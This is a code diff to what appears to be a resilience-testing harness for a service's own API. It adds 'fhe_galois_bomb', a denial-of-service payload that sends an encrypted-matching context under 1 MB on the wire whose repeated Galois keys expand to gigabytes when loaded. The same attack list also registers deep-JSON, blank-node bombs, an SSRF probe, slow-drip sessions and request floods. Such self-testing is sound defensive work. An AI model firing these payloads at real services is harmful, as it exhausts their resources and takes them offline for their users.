@@ -132,6 +132,31 @@ def nested_subject(target: Target) -> str:
     return _post(target, "/credentials/verify", json={"verifiableCredential": credential})
 
 
+# -- 3. memory bomb in encrypted matching ---------------------------------------------------------
+
+
+def fhe_galois_bomb(target: Target) -> str:
+    """A genuine public context (default parameters) whose Galois-key object is a zstd stream of one
+    genuine key repeated for every slot, re-enveloped: under 1 MB on the wire, gigabytes loaded."""
+    import sys
+
+    import numpy as np
+
+    sys.path.insert(0, str(ROOT))
+    from api.fhe_engine import engine_model_spec
+    from fhe import CipherFace, encode_base64
+    from tests.fhe import seal_bombs
+
+    holder = CipherFace(engine_model_spec())
+    public = holder.public_context()
+    galois = seal_bombs.repeated_galois_key(seal_bombs.context_objects(public).galois_keys)
+    attack = seal_bombs.with_objects(public, galois_keys=galois)
+    rng = np.random.default_rng(0)
+    a, b = (holder.encrypt(rng.normal(size=128)).to_base64() for _ in range(2))
+    body = {"publicContext": encode_base64(attack), "a": a, "b": b}
+    return f"{_post(target, '/fhe/distance', json=body)} ({len(attack) / 1e6:.2f} MB context)"
+
+
 # -- 4. outbound fetches ----------------------------------------------------------------------
 
 
@@ -285,6 +310,7 @@ ATTACKS: list[Attack] = [
     Attack("deep_json", deep_json),
     Attack("blank_node_bomb_7", blank_node_bomb(7)),
     Attack("nested_subject_200", nested_subject),
+    Attack("fhe_galois_bomb", fhe_galois_bomb),
     Attack("ssrf_probe", ssrf_probe),
     Attack("slow_drip_did_web", slow_drip_sessions, _drip_env),
     Attack("flood_verify_64", flood_verify),
